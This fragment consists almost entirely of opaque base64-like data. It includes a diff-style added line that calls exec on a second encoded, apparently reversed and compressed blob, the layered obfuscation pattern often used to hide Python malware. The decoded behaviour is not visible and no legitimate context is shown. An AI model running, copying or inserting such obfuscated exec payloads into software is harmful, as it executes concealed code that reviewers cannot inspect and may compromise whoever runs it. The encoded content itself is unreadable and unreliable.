DXiZHwCCxDZqQztQJYsirUpD/jZsi/v2vq++4FKYYN4QTZPZWLEfpeZzg6wHu3ICZOzAPgRzQEyQC41B77ZS5kNBZn4wiwAaCfIiX5PK2WNodjzG0Lmj2nyeZvRXCqgzuhcIS+wW/cpUmqIYf01L3yVCmSX8WrYygYZLNZFD4M7+p8C4dcFYntCSZxBlfjRlFV1tVqcMkv2KHcrRVyJ5TWxZ4O4aAoPlh0VjPCxw1ZIHEnfLi3jzVNa0QeE8mm7gKJgUiGFmO9hYpnQeVAk5JCKpEbsB4RBe9reLAW1OwYHzcWBfeSOT1VmL668QNt01mGowYoaeN2y/rK8JF2Iswmn2A7tsalKlcnkZiGszgCdH4i9y04DwXDPhH1AYaGPUFFiRn9tEIdi14pWu1gEmTyqlgD0Phw9jxBDdu02Bd9FtNm+GylQzRZNjKe3LxtfIRGAJWzyOKy4bhhMjfqFzuL2aGiGg9ZDxrbwSHp4kd42gr2Q8njUKtfGETwssc6P6L4N6fGyczifQj3V+ITfeOZAzscH9ZDGH6VyaIkpfmBhLB/22aYzHLD6R9nrF2VsfeB1mZ87P4mG28PlKq/+FepB8X5j8e4/M0LMr+NrdGpzfAJMRA1wA/ipD5U5BXDRHD0BY21XaLKcKUXhGEpMMk113V1pa+4FNrNRdf2DukHWGB6PdOKrSFMgsf8OfwODbgxQr6zgqhD4/U8zmbTsQhNHZ1W9BtbvIhptyteACTcrkToNT8scgh7YgGIQodPHoiPuUFAyzO1b1GZjmuSXN+TTgbGYRmuUT2fr0NT0XYDMHnbE29QpABMi4k5GCXMVCNNjG2J6pFUZ7ycKlbjONwWVVtj7RqcaWXT0QbHUc5/OAqZFID1OSygYExz7wi1HAunSmz0dCE4xwYRW2ZhU0LZUVPsJyes6bHmqe/CjdGesAK3arPoJ2i81HjKrEVd9PwAKqRkq+nmCrvVo2B5krGqzb/1LBQNio9UjSmvP162ZDSsrkuiubq6vaVCTee6KdRVJ3Ld3QsLbTtbUrarssR9uqJwk/BAJUeJtBeQzXDmBz5RvedL3KSUyGK6ol3sM2zs0fEJoGiks+X7J1qVI9nxlN+3dTjryt5yLC4fNN04OI4YDALtORX7Ker99uNnnm7RWNMQIn/Wmwuxyfzo5OoJ/po2D1pUTbcHbZqhNOF0cqINiw8FpaF1qhhNscQr0kZ0rST/qu8VdaPWAN20z+5Mfo98utDgOik3LEn8YzLB8+Pf+F0OxPbUtf8uxoSmKE9TMBtVNzO0wEsGk+jbqmAzn72AXoZK5HUtHsJncS9KeMurKLhIkwUGgg7M9QgLlfWk/3IbJZtFlzrQpu0onew5I+yh6rGqlsTSSLuxiWiFSQXJZ5/gJknMs775kGYXz3IbdOyGEXSs4xK/bnxpowxjm7GG/r1Z4VS5k4dc7sPtp1YT8IDSGuqaA5eMId1BI4kfhUsEUUZZ/LqHfVoLWv/aYIQLuCmi2nuMMidGW3qb6yt6UjYc8lGGvOECvkOc68LlferZ9jKHy4mAS44rnSfwP0Z2e4XyPcLIewVn/vssoUODmdWl9AZs8Wp3n0jerUpPAnEq0spggN7fCoQp/LpyqwtCiByGl4+gR0iewOuthoTA7FEBlwg6TNSmzT4F/0+NAitSo0QlDCsJrfyEMkbdFf8XRd9I/ade2tFJN4CEoeymejRsh/CqZckxenfweIp1VFx4zfs3GegFwzm+3G3qcbFEBb5ZA6FYr7KmXJdpX8j2kBusEz1SeFs7k1IntVESNVxMEDkXDZEB9Tm0AkKiVpdwLH/dlajBbgbYR6GgfLDuN3MCL+aOKEaMRtvcqPoBU9ePh+MQD0LBjBqFPsAJSWfzW/s3a7YqEUoibZTqssQ7hPNgX3fVIELFpMREpdUtukGwntNM75iIMTnKfWZrxRnWXFW+jpzs/QHp+UOchDz1OlZJMXwBUCMwNY7bNJL7zWIPgySPSCHq6C3updLh5TBfVj9N0X/ZY8eGPtzUp8pvhqSnEuyJ/JTYRm7RLxj7pkMM5HcfSR7gjZXmQOlSqCby9QAyCPbV4Dl51LzJlQmyaDsl5vKK6gVGIsm2+t1fb4Onc4osnk2NWRSy7g5LjGeRH6dpJdSAiK9z2wB4Ui84e7F2JTcv+rmjLx9wF2bYqby4asKyndqajRyk+fesCYPBpRjcJ5XUKdQbk3x73LIvhh5hjy4y+LF1Zn11AydgOcr2CeXNNH1AIdu4x4eUOIv2Fz6FYPobeJ7Gyuh3Ur50R1ckRqZ5NYCiiqoWme4kKJL+nW9TczLCiz5T5LE2hAhU0XpI3HA5Cnc1u4SvZgoF4qdYgiy0X1ERasrp8nYXDXr2aDmz6eYNdOrsZMJpMDV9ru2/I4kxkJG5h/CXQwUbgIfOb1cw1wh9YvL0w50vxTybk+5v9o0KJ8oDIGARVAnftLfakBT5KveuDlUmpZXCqO45J/Ds0Ow/VsaoZkzIf47RsLNRweknt4LXONq2UhLrN6l5L18yVmZr6Qy7Jir18QETy2leGDh2s+k3QD6gwaRoxTzps3aX73ZM5nuHe29SJOtKnsCF1f9hXVdMtFJOWGv18XRQ5hnzKcPo60sOj8SNH4oCIMMkUXmzwPU8QVLpWpuorLDsIsnpZ5wcLbwf33UjSjqe3Z+mv1q9WMs66dpjw3fnfi0C3kwOv0CRI7DnnZxyTCffU7Pk3R4iZDqWFnjTMubT6h0hOiEoZlOpHtPsqSP5rxUbVALA5LIGxf/SEAF9576bwzCvY9PzZaLjWAcYMGjJ3KKjqDwJp44F9Tr98iCdaAU2AY0ThK2XnhE+ypngXFnPrIgNrSP1lnXtm364iwaBIYTr4yJLBCEuFvin48zDxQCyADNH6rLSzAFKT8T72zI4MDwjWQ0iVQCvXMvSNEK2xsG9uDCuFOS1g142roNmSWsQtcpfr/TFyHmTtmrOIndBC6zJ5ZQGMF7ekLFVuRz8nC3uYF7J0FkdcKFq7ObQzbztlDZ4uqBy1hylkkfy6dvikXbTe8SmCsddg3oqVx8PDs03E3aExXtv377Cg9nzcD1ZSOZZrGLUh+lCN4aQ6sTnjxBZXh8SuCVXEa1uBvk7dVXlTnQVx9gxJ7kA5GHxT5gehjvq9bdcvQEdhLHnux8Pv+/1NAEvJG1KCqnJ8BA16yafLgIMWmZstGDROe0sQdXrpDtv/ydxRYRe5rLdZiUqE/V6A6GjpqKAJ8+XBh32uQ1KhV50ZUbeOloLx2JvU1aiVLu3O3NnQgBcLhIED5K5y41GSFkZmL5L6Zj6Vuv7SL18y3191SawQDeqx943wBJOnApoi7KjWlVqOFXIUoogsfoqee4ZP60rfzkxKnldMGeTpKGjhoFr1lYCdebi8A3LiK0colvACYNRCP2CMNk1A6+noaTXWBVYFP7aZD6TShDwFgItklZUTu4sfXQYBppwMCNmKXcv4ygupRtQzC0WugvSIARW0SSYSDoT9BjaWVsyeU2f7Z4J5DSfn80EwWXjTle9Q40UZ3t+HQmn/TxhNp/lmWuWTwpza0cP2wwhZGQeRXvIqGAyh09eVv5HHTVYGmN8J5yVd1uMCYZxGU4p0T+ewoewFir8i/tzgPb28IqthXBDjEFy0abXb2QuK2Nip9Fs03HtjFs7bo88VUUD07ulRIob1tstAF5wdBRTa4asLBqme2nBS/fFYj3kKEBAu3AjzTnsa3+w0tlCUgtmUopRE4194ZpOhGlBmSRXbyI1vdaLmxlNIs/Zq+9j6taBaffbUaSckGBI6rwDiKqerKe27EFFpdScFOOhbghG2HLP+c5fC625NYzzDGUVsO74xPHHu5MuqHjgH1dKrrbI9n4vuhKm/B/X1rIHtlaxYg49OlVa0L+hl2/bFbs9BK4UqCzxg1GGzLMVl1J0+3D1DLrcXcpwo2fZ34uCww/fS4Wnrtk8Y/FhepOjkBopc0OPBxj2bbSTNf/lXPEMI9o41sbLukZ6FZaK28I1Z4oKhzxukGiiLYcgWnG4Osc8SflQiQ0fZRk3MUSrFXEFa+ySvT4BVXmEMBaGAvGsjwM95+v0///uv//PvLyvM5W1L7n3LwE82ioPMu5BnK1h7k4qJ3NUwfTdYRUyVtSW0mUwJe'))
+exec((_)(b'=Mk7w96fvvP//fRKe7QoG9n0k2urR6pmn690V9kmqppbnMhx4I+yduDcChRGXK5bAYQ6T3I4fQDcBB6GLfqEBVQSEQn6KmO9T6DfpsgdkZuP3QuP3fkE4uMG0RvnAprbAh3+SxXtLn37Ixle4UruVSYmfMs2LPGu013qC3LiQmH/Ul3RROZ+sN9+vgIGr3Q9zRTOq11lKbdjTgcagYMzuaezUA4XlbaRmGGzREl0aWRLhI25s9HDQQOH/yuFa51m2nlb7E3J1yX9MZA0+qI7fosRi05KvR7XvYMlmLLxItGWu64/dIG7JD0SLQm96wu4F4wLENyXPz+QZSW1hnAV4sDM0eD7JRfvoxOGstFL6RQ7lBXKPT8n5D/Gf4iOhn34MvuMf+tDDwc4zwJbsTPx0JlivbJ7etD30UXRo+I29ND4ji+r5YSmFji908Dss9PpUOVDeuBX5OLRiCfJ2oeGxTkbuyro5H8ORwlIYEyA+Hhxy9YoKyNal8+Vau6U9+r8CRQ6TnWeLafsHHFv+4Xtoz8ZinVBOiJb279eP+8A/eK9071LG/9zCWXTrJcnN6RJ6O58pvyDPxVCU1AoPp8XD2tjgDQj3FHO2v6ot/zkqTtA91Ktm/a6kbliShAMW60SpXu1uCBjRzdzhycTTiXtBnWCpyil8j+Lw2w9N1C+UbP7wKdWDG3exiyBFuJYkwmjifnBTsCAeodSO7y+QZJULYZrq9gL2fwXQhllrkw0ioI1jVK/5Ib/Pexlltoo6fG0FF3m8tK4E5NWWTAXysGOGAJpFy+ymCyUw4YOAcJ927Vgt9gRyhRXCVR91jsHsmyiDOcF3Ir9vae4zynMPkXQ00jQWYzRWBmGMCnJGpOfcZFozXIZYGcHWjhUOx2lk5nNAjTXTTgZ9UNecpRMPU0cPh+Nivgkd5lW4f05BY15RaNIL+F3OVEIL+9zNbzJaZwX2uyj810MyJURE9eAfUXqELfb7g6vB1UQDur2CpLNyEj4cl0/1UwhEVUgilFjgKMf+0TZ6sq1xsuvWebIU4oZILRwK+jJlTfcqIG8bPKVNmT2eYdTV6SJ/h2ByVJM/yrIKhcYulJ2oeYbXeCCj4tByj8NXfvlArv9zLw1J6MNUS3sqCef3B55c9qPKHTV8R8aF5r5ReUohGLyzZefXpo0ggqCBp6Smk5PYZX0pv9zKuqNY51p17/J4HoyAQWWcr54MudFMHmdz00rc0HdR3UpH8KgIHT8zLpFPkNT0hxSmh07omtYfhVfL05L6T+ahjdxXnyI+82I9yT8SJagWWtcAYeSFSuTQyLTQ116ZoHkv5/3CrBYYfStUbZuebl9a4vrHUibEVGVHWKDQjoeO4atlXoKYP+YooIJK0PAyDDt4ykQW77XJN+SCa74XyjGn3uOj5B2RR8eOM8C09qonMzcw2+5j3Djy3yBwh1SPC7gBGJCjof81d01BltVu1QC+o7iMk2ug9vxuvGKgQyXG4DZTndk+zbgtpfQFTp6ZRRYlqdojIBDDSW9LquhtflSSbg2kRUpWzP3gyPN861PQcv+UHqZwzMVp4y51FJq24XF6g68KR3Zb6pV3LyWyfxj+gMKEyYDVIbF8WLEmMnI/ZRchcqt9H1qbAj2Gx0EU7Q/qF2HWXGWai23wtdyL8vGRMFGU7sGuGST1nWczQPGiZc1gcA+837KTZSF9muThJO8eJNGOaw4XMMUNsETK90gvkH/Iv9ZJb6WKnAoi+EfjPqbvreLxi5I7VOFmR0hFAAYA7DKHITLgMJmp3igzzjABSxIEpDndc3WQ9RuhzvBt6JB7xRQ0wbc28pT0z6CHYOOiYJS4UXVUSWBMN69OcgYZzcjlGp+lgQxqpK8pZqfpW0bBYYHMoSLTOZEvY20JN85SRQLHyX/QJQnSCL2J8ZGZJyy/K3d2sjlj7x4Kt2fAMcra6/P9UQmlh3GspU12rcXp9fxH4VzrOPQXmjfsYrHsfOF2jJa/gpqZekIMn+/Ql9dimiF9r1RZ5An1jQZ1y2PbLJMSDC6NDLZm+27IVycJUTOY1nJaHnYb+tlq8VnSjoASi/oqdOwnwydjZCZ0ciit1yjX/KdZQLP1FzqK/fyG0n9GPX6B14IgjDxhF1Is8ZtP6qeK3lnQTye6glY7ZJV+KlKRMQhYVxUE2HsdLkePu8D05+GunnWMl1lAbhELHOblGq31OvOKG8NIF0RE0jLRHQTeyVDXAwb/Bpnyb6YrJsy+RDpmb22xnR+ErBataYIyV6qw9vmPgwsulf1lal9ixMLQECNneBbwBuhYg3kEZWgiqKCOQV+AMWU9CmRTHMwjn8OE92N5yyjJtOleyXD7382uek5Avl1nj6pESfE+K/jKTECBmsuHFrRRpJTBRexkWC1n8k5/UR/NCC5jE7LN5xj7wGPZgXBbbvp+yxFaCbbE89XUJF4/TUJrQmhJ8p+a8K1qxNnmTWfMdgsH1HRb26+unEH5wcxIgL9Af99rFk1+kaFuL8pOYs9WwDnBS0aYxzsQGkMKirl/Y6a43ixe0gtYdJvbCg7NvbxiYEA3z8ErpghLc9gqvxPAVBBEpRGx409CglVRPvd+TfH8aUAESPr89KzCYwfeGgRkxzasext+Ej6yJJtu39HMgtK03PnttxXwKTRlT8IZ4BkTKFKyrlS+wjRrL0tGHvtdVGIhs7QVLqui4QtQkGynJGEdw+8By0B3Xe3BR8Ff2kr2NPh/Zw1xUENkA3YL6AxPUgY6X0iJFK7Ci/3o+qlvCLaQ1ou2F6+FJrm+2xeyPtVrLZHK+whMAPWv9NkeGMIx8ErZRNpXP32XS9iV19yQIolfSnN65eQvusweLW+QAWbzk9R2NHl34rijo+635tb+sIaqZ7uebI+E786IlK5kM5ls0EWTe2gzrUAbwg0exhuvTUGejoXGcw7QDZdsDU2ANvdhPObGsfhrSftxDKhWy49LYvt99jLPUUzRyvUKEbj/g0ObLG23MeDC2uAzJmU+YhqIyHZaONO227SdkdCETJ5Mz0lhQ8tV+GtuFz+2vwDNX+IYlJawOmf0bJxEd2yonR6wOjOh0fGUCtw8my7/qrgaf61qj0Eiy0PrpRto7xZpZJhuvywZryAYlhUfafCTBh5cceSXzjJltj2DLIp39+gZCdf6HQpV+OsOHs5StiQ9iqr4fOf9qbD6XYT2u1XnuCnDdQxnLuOzzn8O/tWmo/gqYkQ5aM5HyIzk6kfhjUbU2qq+TlC0gkMuyZ2xzWLYezviCiCdoZhh38UAnaTDLu25m78jBfBh0KAPHJx5kOX4qnWQxBnakl6FW+LmQvUa7ahRRu8vDk2zRZ5GKVmCLvSqM0nQP9nXglebRNPiXv2Z+uW686K2zxH/Q4skiDDJHqzp2dMjJYZ3RPagZnmAv2VesI7z7r2i4tqKIQnBdHVAYxYoAkgmVWE7tIUq9nPhoTewaj1SuPTH6af4n6pxKuHrIcL99N2G7CoF/8vrOczSuc2/+H1uY6OLyw1w4+taVjmydsyBrZcg+rnXvMuYKADMpn1WNa8fxr3jIkN5e0NyyE2xeZJh8mJmrl7GigWhsl2au1dAXXJNf/F2bzZqwHshyy5FNAfnF3sYYSyrFwBoGj6+pN90shy78ndaEcbh5QpEHSoSWvzWfmB15EA1P5TSHy59XRghGed30lqVVatLD5upWW3NyDViihQe0dNH7Yxvncgyoq4Ym7Fq+qEI7LE3W5BqIbI3fj/sE0D8kj5egdbCvt4yDGJGX92QVa+yr6pyUgJ1TXRpTE1Hy6W5E1GLfNUj2mqD7kuXfylXRe3K+tFmi9pVmJvweVzXPp/Tv5pNDM1Bft9OPf+Gj3Uokhj5Xnkk78WpB00Sh06gtjME+ggvwOxGcmgbaBVSbKMG8mYHuf6LV/KL4ijKztcl+aBkOAN6SxzQ0E6IBEW/J4iw2K9S9Agw5biCOR4g/9i8YjWXn+YpseseriS8xAOlgG2fHsir8ar9LJIVNZrVyefAz9hkB9xE3MxvRH7VIEv9ns2rWX3xkHZCIQKKDSj/3eUeW7RuH9UwhAFgu7ej3T1cB9a+d9vME2DapG8KxZwa/WBLbYjbEVxiJ5bN23Fv8nO/iQlel3qH1IcEiemirb1lSljiBBA2rYcb1f3+sfcZSdhAz1s4z+3wV4mLrWQRvir1dpmYGZGh6vkL8qiZ/TrwgfhD9njRHae594GwHVyvy1OadupliFWJvSa+Te6+VEK8LEI8yJiMaW6jfb5QCYl/dG1k3ZDpMTuB66AEtaQQPI1JR7L7zgdQrmAbVXR9EViFqsL7L8dg1UGHXUktb1Pt5C+oZSVMKBZXT+smewX0uXwfnwxrMw5UWcJEaKtLlbThnethNdDxnYeGsagf/Z6BX6SrThzmg+AoXhtRiZ0Ba9scaUo2imEpS06PKwK0829U44pQUMx51gi1Q1wtYpOIjpe42+eXXHFV+FMsDpVQMcXWGCtyHACFVxBto/6rTINRC6IjRn96zLfZZuZvZorhDPmtm1tyIdZkS9ptta5mIHg0YMuE/2r5y4ZiVnXgiAXcYEvpCRK/4+ofw6jlTQTtpURyKVFrOGslvoIVlVk2YVZBG+S/2qVQ+tSvqQbaQ3BvdHdg7NaNOevsOIpIh0cbAcrC7AivZ17ZZg773BLejYqHX4pX4leldEyRGJj9bxKCcLdJddGPerFn1/O3QBg0Vhv3iJQEQ8bJp7sTXHQ4evCruwNTPTjW1E4+/WrGBxi5PtSN/oZlJh+hY0cmn89zoyxJmybQXuc9kktOoM6RpWuxfApKfAfgcph3BBcSQg1QQkjRMHxLDWLJeu5n7abcTZ+BJ5ysLF6Z2J+bA66yaXCl1UNC15RJqSEgQdksm2/hhEUimZK0tLdJX+n3wcjWEybqxIrGXNq+uok3OO2jTL7LUF64uBZ0kdn30/Hma+PA52h6edV7idLJkbtd1Lb3Rk1WlX/1uqPRpQxMG/IqIRwE1NFSYBGk9LsQLg0lwENQz5Arm2D5wbQtUWG1Sp7hxXQ1sj1Idmvz+GUJMyE3IOaO6231RgSPhf1JR+/XRliaZY6gXyKv3OpriPknUNIzz2h68JKzkqjsP1Xiy44YJaT1QXD/q+fTATxOnCuXgUC08hQncqjBT+rwlN4qMXw1MliTFF8GU9KSOpV77OcJPwaXRMU+sK8dYr0HAq1u11WQvfbhZc/NJ8FtumOdjnnl5+cD+YgMD8aKWT6pSazUak0daaYsdCJYb2H+ZHlIhgjZjQ3Puws2XjyX83Izy6b6YaYBpt/1bTQqTQfXYjuYfDKb7uL02NzkAXpAnKtvtB9uwdRHr311SaGEaFffDaP/CydmZVXAuHjbmuClsSLe+kXkHd0ME3CBPUQFT6ZXZ+6m5g4aSlGEYDk6PYDhRlhNXXcYSBEVvQ16oGiVdUOutv2TL/U6T0c3Vt2CVUAUCaeos/7U9L59Dsrqrc5+/scUOtpBpteO3ikN1biJCFlbPVoXm0Lgoj7PlyG6EqKBaGt3Z85+8w6eeN3/sQyjf96ULxmsjSbZmUOxGov/N1hDvtuY8LapQiYMZOCNV9G5axevIqiWXMVT/hXIPHxBSM6PHWgVK/sVsaGEknSX2IE9rO0u/IMeihiynl+Lk5ggSi0cTMQ+voG775xbwHq1LIMfSKueEBpyvQzerL0ZZciGtSZZFDZms/Mw2PnNUTxHc5dzcMQzEiflpDfgNG+tfq63hfzDgNV440R0R0mwrn2CsdTeUmmdK3g/jhTluqlNl2CZhg32tWa+1n6P4wp92dCojG+ScUBJa8G33PFn4qxrBgC5GGZIRJQTagKSWtsaKQxi6g8abr04uiJP1Wo0TIUGoRwiKx0jX9IkcClJFkI3h7clY3BZH4Xi/+yao8+ELvM4W01liOkqo96JpLm0wx6OZrxboLxTdXtc3EofGeAJPaPmX66wZ2JP83Q49RD5N17H+BcwAr1eTBhqJelnp9ImByUYIGf5+5iHr2HLVD77Ev9LxMM68jnNrnrhKt2ZPUo5YcJikZgkiAzNLbUXds5Y50/OUGjXcTT9Yh4P9eKSsxt3L4CBx4KtZU4ZB88fB3WIqPBwXRVcq7YxnXOhlbQLoHZWr/q0rFefI5kmopFtlA3LVm44lri2z8I8+1gARACr33KzMJn8IQApoBhYyuyzh61b7ZSRw4eh+ogSit1vKURiUS1ocDyeSEwN4qdjR3OV1SZlqY0vkVRT7VF24O9JdQ1/iFbXMstQ2jJWDEbXC1eOPjHOSqZmEzy/5XCzU0JYlBdBh5xvmW3qhSpU9Mbk0PgW7HPFQ7wa3A7Aux/iuWsKHygj4VVqtceNHyZR+zN+XiCE9YO2GoF6bH7W1hd5tW80oKRcA/7kJwvFwCXTAW/ryc5D58D1ODySBtb1ka7fhiCukG7MlvVshkwmvGSBtZztHEPU8bHAlV1u2PnNlR0svYQW4ELdRf/JbD/Juv3RA98zZv4eaNIlND911QbjK0Gd9s3oQ8KslGgKfj9GSuuBqy2Gt2TF7+oB9j1OfM6jVeiNgO5HinpH2v66OoRsuyk4vOaNajwayAzkLx5FzCzWkVCma5cGczuDZrAN2/ydR7RAthRet4XyLwowMMy4pCCMiIS9y7DQDjXHSpmGz5IIga/+aZImHXy8lFZMXCqU+8qKfHkNx4eARpfkzfRAOx2CLsMSUsE41/FzN+1AMs0s1dGjgg49hmAFF5T76+gqnuqEvitsfpAuG0TykStMNlKPbAhfGFHq/l7UBzlPeInz5k+pTAd7iIAWrGjngWsKEa7G6Xu0grSnSySsWdMxeX2hpH3mUOO73nmBaCGtb7ORUeKeI43Em6jMouwqeaRhPvV4QvsSZKANDqJN2fO4gEZMgBCKS4Z5fKhahiJgyo4zdpu6At+LE3tmiZ/rCQOA2O0LudgSmFEbsx/dlCRoz/LTzcqPq000g3vYLrkUz20rmwJJWHt4/jIxQYsyaH8SaQAKbjonoEFM0CmV1DrAPMDM9AlIPlNVQZFM5S445IDhd9Xp6LayIZ8jXD3eh5l61cAJRK2AQMOi1gSGNCnm1F2re46h+lCaZTRs+OjOHL6PVoo6BFtlcVjHP+LWqvUCXcx1heqbBc2uQkEqU9kJHPfmuOMRXE553auC9JC8cvjZrjY0k5CD7n5cID8zF51jDqE+DQvHESpoK7CjRJntkayovtQ8mhNVbEMxowf0o0qSmO5S/MsFVOEw1YZYIR7x9sFTAI25LiN/zR6BIZAWQ2SEKQOVlQ5DjEvqFvOcNFhzbW4p68k/l4u8ISuBEQ7dEDJuXnidbN81tRu/K6W+HFj+MJD9d/wON+eA29XZKbdSqOFD+ykRXnj9CcRYwK50NkBZ0uzdmh6bwbDd/YezjGDi1JxKhK3NtEcRhmsOkJv+KBvbhPit1MoYCQq7l8X02d+L/sTz4tlkdqudW0TPxu+gI+olkGQIotGiHUN9+dW2RiOInCOwMTjNX95hg7JpwEvVXXeXMHX/S7fsdfCkj9iMsLi3DlIBB1kA3K+tQAwH+BKBOv8tUzzXA4MKCT4kUiHpF860Ww+EnPZQZsGIpPxOW5V7NAZ2QL6XTsQ4crgL6O4+DjEn12M1CQxBmKctzriiOz44Vdk+BfmEbR1S09+ZyE8BhfGjuvqI4HFReW29M29n4Gs6NbA6HJ4p4H5dUr/1gBNiMT/qHuPHFB/1JY1KN80/ZNzkN2KbP/+cpj9gIEX9spoBlktl4jP9sXTCjzijJZjLgxzZhX8hElpXvASjaSqgchqp3JBko3ctyntz+IUnSuZ4XflHsQgCEKilrD6vy+nm9L56ELWat2XgATsd+OuZL4E7IZBfpmJI5pI1rR1YjReMcwQ7Op1OTVrDDSmjJUo8eUzR5RRSsj0EyYvXiqf8Q8LkrFsN0Cm9nN/I3wvC7GiO7L5l0QalpNSwIJVyGl76H8QEo91Cg4pCt293zQGO4B9tMj3/AYugxbdrnmybTxWrSZkYm15o8n2X5ofUw8+GQppJ703fAQeLIjlXjQmWEgi7vPxjeZHLMbAvK+p0N8p77kF0gyqB70f+G0CkYNecKozAXy048OZsRSqlh/MTJDc2bnDYEqb3VUidGSn6WIBgktnnPMq7bSdlLfRfK2b4mgQ4bohOj1DvaXPG8C5OfdvtzpS4Zfx3ryS4jM23lkXu13NTTg+vEFLHjGCWE4hLdHmwm6aMLRJvCqIG05MzhNgNrus1nEzetOzmiz7qLy70xVVWP0S+gqiCrnnh9rqVS7Wtrn/CGJ+XzDT4smKxkakavOfmIDzwqNEDftq4D2JdC+v1asVKRWAJWNn+j62t0kHuq+dzrj0/CtIjd9KXb7IFFoDlh89A7o/2VyFRa9G587PQAdGjt0rY6/EP9QWu5JO1KYm8DDMPQqjT3perO9u5Ba9bgH7i4l4OUMMSY2Fax6tpX/s+SkjHFe7AkrKsZI49HrsnK/JXZBBGmJNzLUciXm/1nofmL4SigJNUKD0spoo4+Lyn25AOcX4G4vQ4gG3Ct6AECnfo8KR8N5BfN00tzXZuz74AbkcEbMPZnBkDX7OjsTgN+MfhBWa6JcrXKMVPN3RmeTSx/d5hcOdUDwVWT+pJq6uuM1pVbZj1+w7QwGQzUGsVOEI5vcOeZetXlJc3VvAeKMxKCpyWqlqVR2HzowxY8vTg+MTJz4bEbPYfgju8PXwLlhQqBpxZxdqvZbRpeliNuco808vlYO3Mque4rXnkkIxYQCzy0Ny75qxyhwE1LjrHIrYKWgOb8E8wO+WU76Z0C0SYVr0/l9CXrYqdiTWCLjeMrfmQ7psFxHDjsZo1Wxu5ETMfp86tz4xkNpcbzDXpz2fR1gc7Pm0XUubQ2DAZ05vCnql6q6ge9I/0CspjWjzQVt90HCKF4KcSn+n+ccwoQJsUAdYLkSp73HsrMHlswaSL6hf6i4BZWJUuEisZx7Pfhj1u3x9xxKb2COWmYyc0HUBIuELZF91+3DHMW3n5g/mGXhWHATTzFecntF+4/MiKtf6tE1all+0tZv5PS4ONdinSphkMCIx3RWNVS8FFNTOqnNkujuzw+bNzkQc8dUQ+EIktu/OwnXd31SM4B5Ji/BCJrNhKAdl2A3Yrl/mEdDsmnmVbg/dor6oT1n/SnywSufXi3s2QFHIt8WXMFA12DdNxrwtddFhUzBnf534jdLrYI1KxTMKhUwAH6tPARhS6Kig6Gxnw+5m9AlWGr2sRIL/3nV2pE1LIq47U93Ycwh1VvE0F6y028OFN5zAcaNzfJI0749cz6+GR5soHoC6sIUj8WJawW3p8h0hPrF5v+UqPuq+WsjNMRcEsFFHfHeb4i7Q2HpNfCcldVgTG38U2/et2Xq2PEVTHldvR1s0Aqih2wTED2vHv10iqDo58aTiphmm0YmK4C42YaE2/KzQoCb4OsJfokaRQV01O+KYKB/BJbcQffwVmOe8U+TPzERRW6V1udDHThCbbNHiLqknSxqUzQEIzucDd21qrRJVuyMzqVT+sWVXalt3ZooM0NABLXVpv9e11FoA99sGFMJgoIjTsdEPE4UjTqfQ/K/nM4gmes5CE+6+Yf7fLsL3P5cG8l+q5Ii7JgTKx4LkQEReA/KOpGKpkgRbglvnoI5uBshT4ihHGtTuVQTlNdJmriwf9qzfqgmRBSKFMwq7v/nL/rXY+AMvH5EPqnRwxHT+0aeONilJjy3HUSBHyRQwOioD84K2jyVovKUyKfsIngnmG5qsz4uMbMJmhb0y35IItZ18nHyplTIPDXUYNLYz8FPLGouorVe2uDJVp09cVEvyR0odIWoNxRqYW+YckcnAvRFAUnuQ06SgyHBJeIDmFcbX2GxyDM8RRuMC57+Sdqa68NZBZez1TX7G92it4+pXYK3QEXYFrfGk/2gCbWxemWDNkYcp0xf18F41lpNbUIPwscViL/5qx9b1scChb+1fNZ+sW5JEV6FbuadrYKJKc7SpbEr8yIWI7jvnvnQYxunN+AvCj8HzC2EIm54qCy0lncTHJAKBn/b6fjleeix08vcJPZygxaoIZ3gCrohayXjpfdm5kn8AhMRqaw75qrwcu81nV1pvdrKKY2I3GTnW8Q1tJWyQa/7bcl96YML8+QOzPzcRltBrqRLW/GQIBtUrX9+h+yjd2YcdXRpWMGFfDN8JxrjW3RadDmJiJ/JWklUh4aUPio2PyBmjtC5g/Fp3cCRI2Mhtp4nwPr1GVLTlto3ogGdRHXKkM5556W+FYS1sEiF7+Fl+jfjVx0e9VsdwvS7lLRbpqewnslLSVGmXPtLXJIgsukrRmPGvWCLycungxGdxBmXcRrhhXPSIXxgYmiCIBEAoNzg2kZlwp117rqUBUVzNX9JtuA7BNtUTVvxN5iqhvt6aZ1jEcq5ERxZfUqrgvUzHj23z7ePRpwjm1iRIuobwZ5Eml32+w/0TSfIxjXtCTKHVF53v7XQFzBc9bVHn3oHigZtphkT1RPueq65yL0/XOHsiXpdvfHPxZD72R1iTchubGZQmoaVYOg8t81jNV9bDN/pfpLqzmIRlU8nWqYn7p22xqvIdup7XQA4J0/SnD42IK8SJspKYsrIbxEeXGpsu7Kflh/j/XRDQjYzkXvMqkSd2HbPAzNzsZqpVyBsgmRx7Q7laMrcWaNGzO2kGlQxDEqHLncZZQRscfh6ZYso1stkl2opKTUG5iOfspxHSyHvl+N/z/6ZKRLDb+Vppzw3rFaEWwmEqjTl4hhNDtLOEXlru9EMYJ0Yiva8Pykt5JtQliyTq+UZe3dSGm5WweMabw93hFeB07wV9+swCZwg/6xt0HRj66nmm1RZCUEi7aY2Ep16avm9Ct5Q+k+EpESvz5WK0LaTr83EccpIRT2BKYV/YJpD2YdI4qeO7FHk7TCrFmI5O/wGng7kUVfOI9t/qB4tGQ3LA/uO0hi4clk2yqDfmklzYqpSHJtwUNCWPbAZ4YhlSCJOV1/jXGY89L4pu1yN761tUnB0yTg+XwPu0PqwmgHjXrOc2vsKrJyJCWNi6ZaFmTS85HaQyYtJ/Xn1Z1HtMnfu49NR0YxsxRHxqjP/uoJA2SxKIdVTYiPScpqsBCNkGiu0PEkYxVF9cAcQc4qto5Y0n174Ybz3WbNXqkkmP1A3FyVPSd0dbSH9FkBW7ceoUWkeeOiimzDSjUEkrqKxh1j0my7LHG2NAt1Gs2wsDh+4zEW36hMbQ844vU2yLNPDietbjf/DqSpWOv/5/iPMe2MlJIqPINlt8FXE9JwieUc0pv0jn7YNYPd1EAmStxdyPU06sINFgVnsBZ1ynOGG/GGE+zm/790Jkp8eswqNqvIvoCOaXlQGaP+79BliGWXr2eWVJ8c7hqKZx9kngHAeW/VQh7riM/akmmomxGkPpIhw7JvDbARa90+dM3czpdgkLLRXqukc+KI1cjLYUqMR9/K02GlpcvrlIcIlLKctXb1wFBFu5Sy0KUerMtsGx2D2x1p9rUE0SM3u6iHin8rGbuk4I/k8Ir5yb/Ha1HRzgpEmHLFlobXpX6XLY/D/oTPHI2LfcFXSHUycsaalK2l08TKgv+wor24erZAZqv/Mh3xUUAoNFf1OU